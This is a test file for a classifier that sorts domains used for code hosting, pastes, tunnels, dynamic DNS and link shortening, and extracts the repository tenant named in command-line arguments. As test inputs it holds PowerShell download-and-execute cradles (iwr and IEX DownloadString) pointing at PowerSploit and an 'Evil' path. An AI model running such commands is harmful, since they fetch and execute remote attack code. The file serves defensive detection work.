import { describe, expect, test } from 'vitest';
import { normaliseHost } from '../../src/domains/normalise-host';
import { sharedHosting, tenantInArguments } from '../../src/domains/shared-hosting';
import { sharedHosts } from '../../src/domains/shared-hosting-hosts';

test.each([
  ['raw.githubusercontent.com', 'code hosting', 'path', 'raw.githubusercontent.com'],
  ['objects.githubusercontent.com', 'code hosting', 'hidden', 'objects.githubusercontent.com'],
  ['paste.ee', 'paste', 'hidden', 'paste.ee'],
  ['a.b.trycloudflare.com', 'tunnel', 'name', 'trycloudflare.com'],
  ['evil.duckdns.org', 'dynamic DNS', 'name', 'duckdns.org'],
  ['bit.ly', 'link shortener', 'hidden', 'bit.ly'],
  // By the Public Suffix List alone.
  ['x71.s3.amazonaws.com', 'private suffix', 'name', 's3.amazonaws.com'],
])('%s is %s', (fqdn, kind, tenantIn, entry) => expect(sharedHosting(fqdn)).toEqual({ kind, tenantIn, entry }));

test.each(['example.com', 'www.microsoft.com', 'notpaste.ee', 'mybit.ly', 'githubusercontent.com.evil.example.org'])('%s is nobody else’s', (fqdn) => expect(sharedHosting(fqdn)).toBeNull());

test('every entry is a public name in normal form, once', () => {
  for (const host of sharedHosts.keys()) expect(normaliseHost(host)).toEqual({ host });
  expect(sharedHosts.size).toBeGreaterThan(200);
});

describe('the tenant that arguments name', () => {
  test.each([
    ['iwr https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/x.ps1', 'raw.githubusercontent.com/powershellmafia'],
    ["IEX(New-Object Net.WebClient).DownloadString('https://RAW.githubusercontent.com/Evil')", 'raw.githubusercontent.com/evil'],
    ['get https://notraw.githubusercontent.com/a raw.githubusercontent.com/b/c', 'raw.githubusercontent.com/b'],
    ['-File C:\\Scripts\\fetch-release.ps1', null],
    ['iwr https://raw.githubusercontent.com', null],
    ['iwr https://raw.githubusercontent.com/"', null],
    ['', null],
  ])('%s: %s', (text, tenant) => expect(tenantInArguments(text, 'raw.githubusercontent.com')).toBe(tenant));

  test('is found in time that grows with the text and not faster', () => {
    const took = (repeats: number): number => {
      const text = 'xraw.githubusercontent.com/'.repeat(repeats);
      const before = performance.now();
      tenantInArguments(text, 'raw.githubusercontent.com');
      return performance.now() - before;
    };
    took(1000);
    expect(took(100_000)).toBeLessThan(500);
  });
});
